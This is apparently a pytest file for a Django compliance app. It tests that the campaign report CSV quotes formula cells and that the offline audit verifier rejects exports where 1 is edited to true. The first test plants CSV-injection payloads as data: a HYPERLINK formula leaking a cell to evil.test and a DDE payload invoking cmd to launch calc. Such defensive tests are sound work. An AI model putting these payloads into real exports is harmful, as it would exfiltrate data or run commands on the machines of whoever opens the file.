"""Exports a compliance officer opens in a spreadsheet or hands to an auditor.

README, Admins and compliance: exports are "CSV (cells starting with `= + - @`, tab or CR are
quoted, against CSV injection)"; DESIGN: "CSV safe for spreadsheets". The campaign report is
a second CSV writer that does not use audit.export.safe_cell."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from governance.actors import Actor
from governance.models import CampaignItem
from governance.services import campaign_create, campaign_item_decide
from tests.approvals.conftest import make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"click")'


def test_the_campaign_report_csv_quotes_formula_cells(demo) -> None:
    carol = make_user("carol", "compliance")
    actor = Actor.for_user(carol)
    campaign = campaign_create(
        name=FORMULA,
        scope="all",
        scope_value="",
        deadline=timezone.now() + timedelta(days=7),
        overdue_policy="suspend",
        actor=actor,
    )
    item = CampaignItem.objects.filter(campaign=campaign).first()
    campaign_item_decide(item=item, actor=actor, decision="certify", note="@SUM(1+1)*cmd|' /C calc'!A0")
    client = Client()
    client.force_login(carol)
    response = client.get(f"/campaigns/{campaign.pk}/report.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(lambda e: e["unmapped"].update(tier=True), id="tier 1 shown as true"),
        pytest.param(lambda e: e.update(status_id=True), id="status_id 1 shown as true"),
        pytest.param(lambda e: e["unmapped"]["details"].update(i=True), id="details 1 shown as true"),
    ],
)
def test_offline_verification_tells_true_from_1(edit) -> None:
    """README: "Every field of every exported event ... is checked against the signed entry its
    proof covers", and "`true` is not `1` and `false` is not `0`". The offline verifier compares
    the event with the entry as Python objects, where True == 1, so an edited export passes."""
    import base64
    import json

    from audit import notes
    from audit.export import iter_jsonl, newest_checkpoint
    from audit.offline import verify_export
    from tests.audit.test_checkpoints_and_export import append

    append(3)
    checkpoint = newest_checkpoint()
    lines = list(iter_jsonl(proofs=checkpoint))
    public = base64.b64encode(notes.verifier().public).decode()
    assert verify_export(lines, checkpoint.note, public).ok
    event = json.loads(lines[1])  # seq 2: tier 1, details {"i": 1}
    edit(event)
    result = verify_export([lines[0], json.dumps(event), lines[2]], checkpoint.note, public)
    assert (result.ok, result.first_bad_seq) == (False, 2), result
